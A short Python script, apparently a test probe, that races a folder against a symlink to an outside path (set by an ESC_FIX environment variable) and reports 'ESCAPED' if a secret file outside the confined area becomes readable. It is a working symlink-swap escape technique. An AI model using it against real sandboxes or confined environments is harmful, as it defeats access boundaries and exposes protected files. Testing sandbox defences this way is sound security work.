# A folder swapped for a symlink, again and again, while a path through it is resolved.
import os, threading, time
os.mkdir("swap"); open("swap/file", "w").write("x"); os.mkdir("real"); os.rename("swap", "real/swap")
stop = False
def swap():
    while not stop:
        try:
            os.rename("real/swap", "go"); os.rename("go", "real/swap")
            os.symlink(os.environ["ESC_FIX"] + "/outside", "go"); os.unlink("go")
        except OSError: pass
t = threading.Thread(target=swap); t.start()
end = time.time() + 2
while time.time() < end:
    try:
        if "SECRET" in open("go/file").read(): print("ESCAPED"); break
    except OSError: pass
stop = True; t.join()
